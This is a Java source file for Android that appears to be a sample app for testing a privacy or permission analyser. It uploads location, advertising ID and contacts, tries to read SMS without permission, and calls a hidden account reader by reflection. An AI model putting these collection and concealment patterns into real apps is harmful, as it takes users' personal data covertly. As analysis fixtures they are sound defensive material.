package org.ringfence.sample;

import android.content.Context;
import android.database.Cursor;
import android.location.Location;
import android.location.LocationManager;
import android.net.Uri;
import android.provider.ContactsContract;
import com.google.android.gms.ads.identifier.AdvertisingIdClient;

/** The app's own collecting. */
final class Profile {
    private final Context context;

    Profile(Context context) {
        this.context = context;
    }

    void collect() {
        sendLocation();
        sendAdvertisingId();
        sendContacts();
        sendMessages();
        readByReflection();
    }

    private void sendLocation() {
        LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
        Location last = manager.getLastKnownLocation("gps");
        if (last != null) {
            Uploader.send("latitude", String.valueOf(last.getLatitude()));
        }
    }

    private void sendAdvertisingId() {
        Uploader.send("adid", AdvertisingIdClient.getAdvertisingIdInfo(context).getId());
    }

    private void sendContacts() {
        Cursor rows = context.getContentResolver().query(
                ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) {
            Uploader.send("contact", rows.getString(0));
        }
        rows.close();
    }

    /** No READ_SMS is declared: the call would be refused. */
    private void sendMessages() {
        Cursor rows = context.getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
        Uploader.send("messages", String.valueOf(rows));
    }

    private void readByReflection() {
        try {
            Class<?> hidden = Class.forName("org.ringfence.sample.Hidden");
            hidden.getMethod("readAccounts", Context.class).invoke(null, context);
        } catch (Exception error) {
            Uploader.send("error", error.getMessage());
        }
    }
}
